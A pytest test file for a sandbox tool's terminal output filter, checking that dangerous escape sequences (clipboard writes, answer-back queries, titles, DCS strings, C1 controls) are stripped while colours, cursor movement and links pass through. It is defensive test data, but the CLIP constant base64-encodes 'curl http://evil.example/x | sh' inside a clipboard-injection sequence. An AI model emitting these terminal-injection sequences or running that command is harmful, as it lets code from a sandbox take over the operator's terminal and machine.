"""The terminal output filter (agentvm/termfilter.py): what makes the operator's terminal act
for the sandbox (the clipboard, answer-back queries, titles, DCS strings) is removed; what
interactive programs need (text, colours, cursor movement, modes, OSC 8 links) is kept; split
anywhere, the answer is the same; nothing is held beyond the bound. TABLE is shared with the
C client's copy of the machine (tests/unit/test_client_c.py)."""

from __future__ import annotations

import os
import pty
import re

import pytest

from agentvm import termfilter
from agentvm.termfilter import LIMIT, TermFilter

E = b"\x1b"
ST = b"\x1b\\"
CLIP = E + b"]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaAo=\x07"

# (what the sandbox writes, what reaches the terminal)
TABLE: list[tuple[bytes, bytes]] = [
    # kept: text, UTF-8, controls a line editor uses, colours, cursor, modes, charsets
    (b"plain text\r\n\tand a tab\x08\x07", b"plain text\r\n\tand a tab\x08\x07"),
    ("héllo ✓ 日本 \u00a0".encode(), "héllo ✓ 日本 \u00a0".encode()),
    (E + b"[1;31mred" + E + b"[0m", E + b"[1;31mred" + E + b"[0m"),
    (E + b"[38;2;255;128;0mrgb" + E + b"[m", E + b"[38;2;255;128;0mrgb" + E + b"[m"),
    (E + b"[H" + E + b"[2J" + E + b"[10;5H" + E + b"[K" + E + b"[3A" + E + b"[2C",
     E + b"[H" + E + b"[2J" + E + b"[10;5H" + E + b"[K" + E + b"[3A" + E + b"[2C"),
    (E + b"[?1049h" + E + b"[?25l" + E + b"[?2004h" + E + b"[?1000h" + E + b"[1;24r",
     E + b"[?1049h" + E + b"[?25l" + E + b"[?2004h" + E + b"[?1000h" + E + b"[1;24r"),
    (E + b"7" + E + b"8" + E + b"M" + E + b"=" + E + b">" + E + b"(0qq" + E + b"(B",
     E + b"7" + E + b"8" + E + b"M" + E + b"=" + E + b">" + E + b"(0qq" + E + b"(B"),
    (E + b"[2 q" + E + b"[!p" + E + b"[>4;2m" + E + b"[3S", E + b"[2 q" + E + b"[!p" + E + b"[>4;2m" + E + b"[3S"),
    (E + b"]8;;https://example.test/a?b=c" + ST + b"link" + E + b"]8;;" + ST,
     E + b"]8;;https://example.test/a?b=c" + ST + b"link" + E + b"]8;;" + ST),
    (E + b"]133;A\x07", E + b"]133;A\x07"),
    (E + b"]12;#ff0000\x07" + E + b"]4;1;rgb:ff/00/00" + ST + E + b"]104\x07",
     E + b"]12;#ff0000\x07" + E + b"]4;1;rgb:ff/00/00" + ST + E + b"]104\x07"),
    (E + b"[" + b"1;" * 40 + b"m long" + E + b"[" + b"9;" * 40 + b"n", E + b"[" + b"1;" * 40 + b"m long"),
    (E + b"[31m" * 3 + E + b"[6n" + E + b"[32m" + b"\x05" + E + b"[c", E + b"[31m" * 3 + E + b"[32m"),
    # removed: the clipboard, titles, other OSCs
    # the working directory (OSC 7): terminals open new tabs there (security review, 2026-11-28)
    (b"a" + E + b"]7;file://host/root/project\x07b" + E + b"]7;file:///tmp" + ST + b"c", b"abc"),
    (b"a" + CLIP + b"b", b"ab"),
    (b"a" + E + b"]52;c;?" + ST + b"b", b"ab"),
    (b"a" + E + b"]0;pwned\x07b" + E + b"]2;title" + ST + b"c" + E + b"]1;icon\x07", b"abc"),
    (b"a" + E + b"]1337;File=name=eA==:AAAA\x07" + E + b"]46;/tmp/log\x07" + E + b"]777;notify;x;y\x07b", b"ab"),
    (b"a" + E + b"]8;;http://x/\x01y" + ST + b"b", b"ab"),  # a control inside a kept OSC: dropped whole
    # removed: answer-back queries
    (b"a" + E + b"[6nb" + E + b"[5nc" + E + b"[?6nd" + E + b"[?15n", b"abcd"),
    (b"a" + E + b"[cb" + E + b"[0cc" + E + b"[>cd" + E + b"[=ce" + E + b"[>0c", b"abcde"),
    (b"a" + E + b"[14tb" + E + b"[18tc" + E + b"[19td" + E + b"[21te" + E + b"[20t" + E + b"[22;0t", b"abcde"),
    (b"a" + E + b"]4;1;?\x07b" + E + b"]10;?\x07c" + E + b"]11;?" + ST + b"d" + E + b"]12;?\x07", b"abcd"),
    (b"a" + E + b"P$qm" + ST + b"b" + E + b"P+q544e" + ST + b"c", b"abc"),
    (b"a" + E + b"P1;1|17/6162" + ST + b"b" + E + b"Pq#0;2;0;0;0~~" + ST + b"c", b"abc"),
    (b"a" + E + b"_Gi=1,a=q;" + ST + b"b" + E + b"^pm" + ST + b"c" + E + b"Xsos" + ST, b"abc"),
    (b"a" + E + b"[?2026$pb" + E + b"[>qc" + E + b"[?ud" + E + b"[?1;1S" + E + b"[?4me" + E + b"[x", b"abcde"),
    (b"a" + E + b"[1;1;1;1;1;1*yb" + E + b"[1'wc" + E + b"[1$wd" + E + b"[&ue" + E + b"[\"v" + E + b"[#|", b"abcde"),
    (b"a" + E + b"Zb\x05c", b"abc"),
    # removed: C1 controls in UTF-8 (U+009B CSI, U+009D OSC, U+0090 DCS)
    (b"a\xc2\x9b6nb\xc2\x9d52;c;QQ==\x07c\xc2\x90$qm", b"a6nb52;c;QQ==\x07c$qm"),
    # ... and never joined by what is dropped between a lead and a later byte; overlong forms
    (b"a\xc2" + E + b"[6n\x9bb", b"ab"),
    (b"a\xe0\x82\x9b6n \xc0\x9b \xc1\x9d \xf0\x80\x82\x9b .", b"a6n    ."),
    # raw 8-bit C1 (a terminal out of UTF-8 mode acts on them): every byte not in well-formed UTF-8
    # is dropped - stray continuations, surrogates, above U+10FFFF, f5-ff, a truncated sequence
    (b"a\x9b6nb\x9d52;c;QQ==\x07c\x90$qm\x85d", b"a6nb52;c;QQ==\x07c$qmd"),
    (b"\xed\xa0\x80x\xf4\x90\x80\x80y\xf5\xff\xfe\xe1\x80z\xe2\x9c", b"xyz"),
    # ESC % (but ESC % G) takes the terminal out of UTF-8: dropped, and the raw C1 after it too
    (b"a" + E + b"%@b\x9b6nc\x9d52;c;QQ==\x07d" + E + b"%/Ge" + E + b"%8", b"ab6nc52;c;QQ==\x07de"),
    (E + b"%Gx", E + b"%Gx"),
    # screen's title string, DECRQLP (an answer-back)
    (b"a" + E + b"ktitle" + ST + b"b" + E + b"[1'|c" + E + b"['|", b"abc"),
    ("क ✓ 😀 \u00a0 ࠀ 𐀀".encode(), "क ✓ 😀 \u00a0 ࠀ 𐀀".encode()),
    # cancelled, cut short, malformed
    (b"a" + E + b"[6\x18nb", b"anb"),
    (b"a" + E + b"]52;c;QQ==\x1ab", b"ab"),
    (b"a" + E + b"[6" + E + b"[31mb", b"a" + E + b"[31mb"),
    (b"a" + E + b"]0;x" + E + b"[6nb", b"ab"),
    (b"a" + E + b"[1$2mb", b"ab"),
    (b"a" + E + E + b"[6nb", b"ab"),
    (b"a" + E + b"\nb", b"a\nb"),
    (b"a" + E + b"[6\nnb", b"a\nnb"),
]


def run(f: TermFilter, pieces) -> bytes:
    return b"".join(f.feed(p) for p in pieces) + f.finish()


@pytest.mark.parametrize("data,want", TABLE)
def test_the_table_whole_split_at_every_byte_and_a_byte_at_a_time(data, want):
    assert run(TermFilter(), [data]) == want
    for k in range(len(data) + 1):
        assert run(TermFilter(), [data[:k], data[k:]]) == want, k
    assert run(TermFilter(), [data[i:i + 1] for i in range(len(data))]) == want


def test_a_sequence_past_the_bound_is_dropped_and_not_held():
    f = TermFilter()
    body = b"A" * (LIMIT + 100)
    out = f.feed(E + b"]52;c;" + body[:LIMIT - 100])
    assert out == b"" and len(f.held) == 7 + LIMIT - 100  # held while it may still end
    out += f.feed(body[LIMIT - 100:] + b"\x07tail")
    assert b"\x1b" not in out and b"52;c" not in out  # its introducer never reached the terminal
    assert out.endswith(b"\x07tail") and len(f.held) == 0
    # an unterminated DCS is discarded without holding anything
    f = TermFilter()
    f.feed(E + b"P" + b"x" * (10 * LIMIT))
    assert len(f.held) == 0
    assert f.feed(ST + b"after") == b"after"


def test_an_incomplete_sequence_at_the_end_is_dropped_not_completed_by_the_next_write():
    f = TermFilter()
    assert f.feed(b"out" + E + b"[") == b"out"
    assert f.finish() == b""
    assert f.feed(b"6n") == b"6n"  # after finish the bytes are text: no ESC ever went out


def test_large_plain_output_passes_in_one_piece():
    data = (b"x" * 1000 + b"\n") * 1000
    assert TermFilter().feed(data) == data


def test_only_a_terminal_gets_a_filter_and_raw_output_turns_it_off(monkeypatch, tmp_path):
    monkeypatch.delenv("AGENTVM_RAW_OUTPUT", raising=False)
    master, slave = pty.openpty()
    r, w = os.pipe()
    try:
        assert isinstance(termfilter.for_fd(slave), TermFilter)
        assert termfilter.for_fd(w) is None  # a pipe: bytes pass exact
        with open(tmp_path / "f", "wb") as fh:
            assert termfilter.for_fd(fh.fileno()) is None  # a file
        assert termfilter.for_fd(slave, raw=True) is None
        monkeypatch.setenv("AGENTVM_RAW_OUTPUT", "1")
        assert termfilter.for_fd(slave) is None
    finally:
        for fd in (master, slave, r, w):
            os.close(fd)


def test_the_hot_path_imports_the_filter_only_for_a_terminal():
    """fastrun (the thin client's hot path) imports agentvm.termfilter only when stdout or
    stderr is a terminal; with pipes it has no filter at all."""
    import subprocess
    import sys

    src = ("import sys; from agentvm.cli import fastrun; f = fastrun.output_filters(); "
           "print(f == (None, None), 'agentvm.termfilter' in sys.modules)")
    r = subprocess.run([sys.executable, "-c", src], capture_output=True, timeout=60, stdin=subprocess.DEVNULL,
                       env={k: v for k, v in os.environ.items() if k != "AGENTVM_RAW_OUTPUT"})
    assert r.stdout.split() == [b"True", b"False"], r.stderr
    master, slave = pty.openpty()
    try:
        r = subprocess.run([sys.executable, "-c", src.replace("print(", "sys.stderr.write(str((").replace(
            "sys.modules)", "sys.modules)))")], stdout=subprocess.DEVNULL, stderr=slave, timeout=60,
            stdin=subprocess.DEVNULL, env={k: v for k, v in os.environ.items() if k != "AGENTVM_RAW_OUTPUT"})
        os.close(slave)
        slave = -1
        got = os.read(master, 4096)
    finally:
        os.close(master)
        if slave >= 0:
            os.close(slave)
    assert r.returncode == 0 and got == b"(False, True)", got


def test_random_sequences_give_the_same_answer_however_they_are_split():
    import random

    rnd = random.Random(1128)
    alphabet = [b"\x1b", b"[", b"]", b"P", b"\\", b"\x07", b"6", b"n", b"c", b"52", b";", b"?", b"$", b"q", b"m",
                b"0", b"1", b"t", b"\xc2", b"\x9b", b"\x18", b"\n", b"a", b">", b"\x05", b" ", b"8", b"Z", b"_",
                b"\xe0", b"\xf0", b"\xc0", b"\x80", b"\xa0", b"%", b"G", b"@", b"k", b"\xed", b"\xf4", b"\x90",
                b"\xe2\x9c", b"\xff"]
    for _ in range(300):
        data = b"".join(rnd.choice(alphabet) for _ in range(rnd.randint(1, 60)))
        whole = run(TermFilter(), [data])
        for k in range(len(data) + 1):
            assert run(TermFilter(), [data[:k], data[k:]]) == whole, (data, k)
        # an ESC that goes out is never the last byte (a sequence left open) nor followed by a control
        for i in range(len(whole)):
            if whole[i] == 0x1B:
                assert 0x20 <= (whole[i + 1] if i + 1 < len(whole) else 0) <= 0x7E, (data, whole)
        assert b"\x1b[6n" not in whole and b"\x1b[c" not in whole and b"\x05" not in whole and b"\xc2\x9b" not in whole
        assert re.search(rb"\xc2[\x80-\x9f]|[\xc0\xc1]|\xe0[\x80-\x9f]|\xf0[\x80-\x8f]|[\xc2\xe0\xf0]$", whole) is None, \
            (data, whole)  # no C1 in UTF-8 form, overlong or not, and no lead left at the end
        text = whole.decode("utf-8")  # well-formed UTF-8 whatever came in: no raw 8-bit C1 byte
        assert not re.search("[\x80-\x9f]", text), (data, whole)
        assert b"\x1b%" not in whole.replace(b"\x1b%G", b""), (data, whole)


def test_a_smaller_bound_holds_for_short_sequences_too():
    data = E + b"[1;2;3;4;5;6;7m" + b"x" + E + b"[1m"
    want = b";5;6;7mx" + E + b"[1m"  # over 8 bytes held: dropped, the rest is text
    assert run(TermFilter(limit=8), [data]) == want
    assert run(TermFilter(limit=8), [data[i:i + 1] for i in range(len(data))]) == want
